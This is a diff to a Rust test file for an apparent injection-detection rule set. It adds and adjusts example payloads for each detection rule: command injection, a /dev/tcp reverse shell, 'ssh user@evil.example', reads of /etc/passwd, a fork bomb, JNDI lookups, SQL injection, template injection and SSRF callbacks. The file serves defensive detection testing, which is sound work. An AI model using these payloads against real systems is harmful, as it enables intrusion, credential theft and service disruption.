@@ -18,36 +18,48 @@ const EXAMPLES: &[(&str, &str, &str)] = &[
     ("code", "yaml-tag", r#"!!python/object/apply:os.system ["id"]"#),
     ("code", "python", "__import__('os').system('id')"),
     ("code", "node", "require('child_process').exec('id')"),
+    ("code", "node-reach", "global['process']"),
     ("code", "asp", "Response.Write(1)"),
     ("code", "loader", "LD_PRELOAD"),
-    ("command", "separator-argument", "; ls -la"),
-    ("command", "separator-host", ";ssh user@evil.example"),
-    ("command", "separator-quoted", r#";printf "x""#),
-    ("command", "separator-word", ";id"),
+    ("command", "separator-argument", "x y; ls -la"),
+    ("command", "separator-host", "x y;ssh user@evil.example"),
+    ("command", "separator-quoted", r#"x y;printf "x""#),
+    ("command", "separator-word", "x y;id"),
     ("command", "separator-command", "&dir"),
-    ("command", "windows", "; net user hacker Password1 /add"),
+    ("command", "windows", "x y; net user hacker Password1 /add"),
     ("command", "start-argument", "cat /etc"),
     ("command", "wrapper", "timeout 5 id"),
     ("command", "folder", "/bin/id"),
-    ("command", "secret", ";cat</etc/passwd"),
+    ("command", "secret", "x y;cat</etc/passwd"),
     ("command", "ifs", "a$IFS"),
     ("command", "shellshock", "() { :;}; echo vulnerable"),
     ("command", "fork-bomb", ":(){ :|:& };:"),
-    ("command", "lookup", "${${lower:j}ndi:rmi://x/y}"),
+    ("command", "lookup", "${jndi:x}"),
+    ("command", "lookup-probe", "${env:HOME}"),
     ("command", "substitution", "x$(cat)"),
     ("command", "backtick", "`id`"),
-    ("command", "glob", ";/b?n/c?t /e??/p??s??"),
-    ("command", "here-string", ";rev<<<dwssap/cte/ tac"),
-    ("command", "separator-tool", ";docker ps"),
+    ("command", "glob", "x y;/b?n/c?t /e??/p??s??"),
+    ("command", "here-string", "x y;rev<<<dwssap/cte/ tac"),
+    ("command", "separator-tool", "x y;docker ps"),
     ("command", "option", "--upload-pack=touch /tmp/x"),
     ("command", "expansion", "$(<flag)"),
     ("command", "batch-for", r#"& for /f "delims=" %i in ('whoami') do echo %i"#),
     ("command", "batch-if", r"if exist c:\boot.ini echo x"),
-    ("command", "reverse-shell", ";exec 5<>/dev/tcp/1.2.3.4/80"),
+    ("command", "reverse-shell", "x y;exec 5<>/dev/tcp/1.2.3.4/80"),
     ("command", "variables", "a=l;b=s;$a$b"),
-    ("command", "write", "; echo 1 > a"),
+    ("command", "write", "x y; echo 1 > a"),
     ("command", "brace", "{cat,/etc/passwd}"),
     ("command", "system", "x=system('ls')"),
+    ("command", "plain-command", "x;useradd y"),
+    ("command", "address-command", "1.1.1.1;halt"),
+    ("command", "plain-tool", "x;git clone y"),
+    ("command", "redirect", "x;y>/tmp/z"),
+    ("command", "structure", "while :; do x; done"),
+    ("command", "group", "x;{ foo;}"),
+    ("command", "computed-word", "x;$'id'"),
+    ("command", "computed-windows", "x & call %a%"),
+    ("command", "piped-to-shell", "x y|zsh"),
+    ("command", "start-alone", "ifconfig;x"),
     ("bare", "split-argument", "; ls -la"),
     ("bare", "split-command", "&dir"),
     ("bare", "split-start", "uname"),
@@ -102,28 +114,38 @@ const EXAMPLES: &[(&str, &str, &str)] = &[
     ("sqli", "delay", "1) or pg_sleep(5)--"),
     ("sqli", "sleep", "sleep(5)#"),
     ("sqli", "catalogue", "1 procedure analyse()"),
+    ("sqli", "system-function", "load_file(1)"),
     ("sqli", "procedure", "@@version"),
     ("sqli", "stacked", "1;select+sleep(5)"),
-    ("sqli", "statement", "1; EXEC sp_configure 'show advanced options',1"),
+    ("sqli", "stacked-command", "1; vacuum"),
+    ("sqli", "statement", "EXEC sp_configure 'show advanced options',1"),
     ("sqli", "columns", "1 order by 10-- -"),
     ("sqli", "tautology", "1 and 1=1"),
     ("sqli", "condition", "1 || 1=1"),
+    ("sqli", "number-condition", "5||1"),
+    ("sqli", "identifier-condition", "2 or 1"),
+    ("sqli", "identifier-itself", "id=id"),
     ("sqli", "compare", "1=1"),
     ("sqli", "break-operator", "1' || '1'='1"),
     ("sqli", "break-comparison", "x' between 1"),
-    ("sqli", "break-comment", "admin'#"),
+    ("sqli", "break-comment", "admin'--"),
+    ("sqli", "break-hash", "admin'#"),
     ("sqli", "break-subquery", "1 or 1 in (select 1)"),
     ("sqli", "break-around", "x'or'1"),
+    ("sqli", "break-sum", "a'+sleep(3)+'b"),
+    ("sqli", "break-signs", "'%'"),
+    ("sqli", "break-clause", "x' limit 1"),
     ("sqli", "break-rest", "x'and unlikely_ (y) #"),
     ("sqli", "comment-blank", "select/**/name"),
     ("sqli", "comment-split", "dr/**/op table_x"),
+    ("sqli", "select-unspaced", "SELECT-id-1.FROM`test`"),
     ("sqli", "select-from", "select one from the menu"),
     ("sqli", "select-literal", "select -1"),
     ("sqli", "select", "1^(ascii(mid((select(user())),1,1))>1)"),
     ("sqli", "cast", "(1)::int"),
     ("sqli", "json", "json_depth('x')"),
     ("sqli", "versioned-comment", "1/**/union/*!50000select*/1,2"),
-    ("sqli", "exponent", "1' or 1.e(1) or '1"),
+    ("sqli", "exponent", "1.e(1)"),
     ("sqli", "case", "(case when 1=1 then 1 else 0 end)"),
     ("sqli", "function", "concat(0x61,0x62)"),
     ("ssi", "directive", r#"<!--#exec cmd="id"-->"#),
@@ -134,11 +156,15 @@ const EXAMPLES: &[(&str, &str, &str)] = &[
     ("ssrf", "odd-address", "http://0x7f.1/"),
     ("ssrf", "callback", "http://x.burpcollaborator.net/"),
     ("template", "arithmetic", "${7*7}"),
+    ("template", "polyglot", "{{<%"),
     ("template", "python", "{{ joiner.__init__ }}"),
     ("template", "java", "%{(#a=@java.lang.Runtime@getRuntime())}"),
-    ("template", "call", "{{config}}"),
-    ("template", "tag", "{% debug %}"),
-    ("template", "handlebars", r#"{{#with "s" as |string|}}{{/with}}"#),
+    ("template", "reach", "{{config}}"),
+    ("template", "call", "{{ f(x) }}"),
+    ("template", "tag-reach", "{% debug %}"),
+    ("template", "tag", "{% set x %}"),
+    ("template", "handlebars-reach", "{{lookup x y}}"),
+    ("template", "handlebars", "{{#each items}}{{/each}}"),
     ("template", "smarty", "{system('ls')}"),
     ("template", "velocity", "#set($x = 1)"),
     ("template", "freemarker", "<#list x as y>"),
@@ -241,6 +267,7 @@ fn scores(set: &Set, rules: &RuleSet, without: &str, text: &str) -> (u8, u8) {
 
 #[test]
 fn every_rule_has_a_text_that_needs_it() {
+    let mut wrong = Vec::new();
     for set in SETS {
         let compiled = RuleSet::new(set.rules).unwrap();
         for rule in set.rules {
@@ -248,17 +275,19 @@ fn every_rule_has_a_text_that_needs_it() {
                 .iter()
                 .find(|(family, name, _)| *family == set.family && *name == rule.name);
             let Some((_, _, text)) = example else {
-                panic!("{}/{} has no example", set.family, rule.name)
+                wrong.push(format!("{}/{} has no example", set.family, rule.name));
+                continue;
             };
             let (with, without) = scores(set, &compiled, rule.name, text);
-            assert!(
-                with >= rule.points && with > without,
-                "{}/{} is not what finds {text:?}: {with} with it, {without} without",
-                set.family,
-                rule.name
-            );
+            if with < rule.points || with <= without {
+                let name = format!("{}/{}", set.family, rule.name);
+                wrong.push(format!(
+                    "{name} is not what finds {text:?}: {with} with it, {without} without"
+                ));
+            }
         }
     }
+    assert!(wrong.is_empty(), "{wrong:#?}");
 }
 
 #[test]
